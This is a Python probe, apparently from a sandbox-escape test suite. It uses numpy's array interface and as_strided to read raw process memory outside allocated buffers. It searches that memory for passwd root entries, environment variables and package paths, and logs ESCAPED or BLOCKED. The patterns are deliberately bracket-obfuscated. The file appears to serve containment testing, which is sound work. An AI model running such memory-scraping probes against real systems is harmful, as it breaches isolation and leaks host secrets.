# id: pkg-numpy-memory
# technique: arrays over memory that nobody gave (array interface, strides) search all of it for what is the host's
# layer: gate
# goal: host
# success_marker: ESCAPED
import re

# No pattern is what it looks for, so the program does not find itself.
NEEDLES = [(r'root:[x]:0:0:', 'the users'), (r'(HOME|PATH|HOSTNAME)[=]/\w', 'the environment'), (r'[i]nstall-packages', 'its files')]


def reached(ctx, what):
    ctx.log.info('ESCAPED pkg-numpy-memory: ' + str(what)[:80])


def over(numpy, address, size):
    setting = {'version': 3, 'data': (address, False), 'shape': (size,), 'typestr': '|u1'}
    return numpy.asarray(type('Window', (), {'__array_interface__': setting})())


def search(ctx, memory, start):
    text = memory.tobytes().decode('latin1')
    for needle, what in NEEDLES:
        found = re.search(needle, text)
        if found:
            reached(ctx, what + ' at ' + str(start) + ': ' + text[found.start() : found.start() + 60])


def attempt(ctx):
    import numpy
    from numpy.lib.stride_tricks import as_strided
    seen = 0
    for start in range(65536, 40_000_000, 1_000_000):
        search(ctx, over(numpy, start, 1_000_000), start)
        seen += 1
    small = numpy.zeros(1, dtype='u1')
    search(ctx, as_strided(small, (1_000_000,), (1,)), 'an array')
    ctx.log.info('BLOCKED pkg-numpy-memory: nothing of the host in ' + str(seen) + ' MB')


def tick(ctx):
    try:
        attempt(ctx)
    except Exception as e:
        ctx.log.info('BLOCKED pkg-numpy-memory: ' + str(e)[:160])
    ctx.log.info('DONE pkg-numpy-memory')
